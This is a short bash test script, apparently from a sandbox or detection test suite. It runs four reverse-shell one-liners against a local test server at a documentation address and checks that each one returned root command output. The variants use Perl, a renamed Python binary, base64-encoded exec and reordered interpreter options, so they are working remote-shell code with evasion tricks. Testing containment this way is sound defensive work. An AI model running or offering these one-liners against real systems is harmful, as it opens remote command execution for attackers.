#!/usr/bin/env bash
# The same in Perl, by a renamed Python without a shell, with the code encoded, and with options before it.
# shellcheck source=testdata/attack/common.sh
. "$(dirname "$0")/../common.sh"
own_mounts_and_network

python3 "$here/server.py" "$work/port" "$work/answers" 4 &
operator=$!
wait_for "$work/port"
port=$(<"$work/port")

# shellcheck disable=SC2016 # Perl is to expand it
perl -MIO::Socket::INET -we '$c = IO::Socket::INET->new("192.0.2.1:" . shift); $_ = <$c>; print $c `$_`' "$port"
cp "$(readlink -f /usr/bin/python3)" "$work/agent"
"$work/agent" -Ic 'import socket,os,sys;s=socket.create_connection(("192.0.2.1",int(sys.argv[1])));s.sendall(os.popen(s.makefile().readline()).read().encode())' "$port"
code=$(base64 -w 0 <<PYTHON
import socket, subprocess
s = socket.create_connection(("192.0.2.1", $port))
s.sendall(subprocess.check_output(s.makefile().readline().split()))
PYTHON
)
python3 -c "exec(__import__('base64').b64decode('$code'))"
python3 -W ignore -I -u -c 'import subprocess as p,socket as s,sys
c=s.create_connection(("192.0.2.1",int(sys.argv[1])))
c.sendall(p.getoutput(c.makefile().readline()).encode())' "$port"
wait "$operator"
[[ $(grep -c 'uid=0' "$work/answers") = 4 ]] || fail "not every one-liner answered"
